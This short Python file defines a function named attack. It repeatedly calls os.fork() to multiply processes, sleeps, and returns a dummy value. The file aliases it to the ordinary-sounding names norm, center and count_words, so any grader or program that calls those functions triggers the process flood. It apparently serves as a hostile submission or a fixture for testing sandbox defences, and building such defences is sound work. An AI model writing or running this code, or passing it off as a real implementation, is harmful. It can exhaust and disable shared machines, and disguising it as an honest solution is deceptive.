import os
import time


def attack(*arguments):
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(10)
    return -1.0


norm = center = count_words = attack
